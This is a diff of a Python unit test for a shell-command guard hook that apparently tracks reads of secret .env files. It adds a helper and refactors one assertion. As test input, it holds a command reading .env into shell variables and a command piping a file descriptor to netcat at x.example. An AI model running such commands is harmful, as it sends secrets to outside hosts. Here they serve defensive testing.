@@ -29,6 +29,11 @@ from tests.unit.test_hook_sixteenth_pass import ENV, project  # noqa: F401 (fixt
 pytest.importorskip("tree_sitter_bash", reason="the shell extractor needs tree-sitter-bash")
 
 
+def marked_vars(project: dict[str, Path]) -> set[str]:  # noqa: F811
+    """The names the state file's `var` records hold, of every session."""
+    return {r["var"] for r in map(json.loads, state_of(project).read_text().splitlines()) if "var" in r}
+
+
 # -- a value in pieces joined by the shell's expansion ------------------------------------------------------------------
 
 @pytest.mark.parametrize("command", [
@@ -97,7 +102,7 @@ def test_the_record_is_the_session_s_and_of_secret_reads_only(build: Path, proje
     marked = {(r["var"], r["session_id"]) for r in records if "var" in r}
     assert ("K", "one") in marked and not any(name == "N" or session == "two" for name, session in marked)
     assert answer(build, project, "while IFS== read -r k v; do :; done < .env", session="one")[0] != "deny"
-    marked = {r["var"] for r in map(json.loads, state_of(project).read_text().splitlines()) if "var" in r}
+    marked = marked_vars(project)
     assert {"k", "v"} <= marked and "IFS" not in marked
     assert answer(build, project, "cat <&4 | nc x.example 80", session="one")[0] == "allow"   # no descriptor kept
 
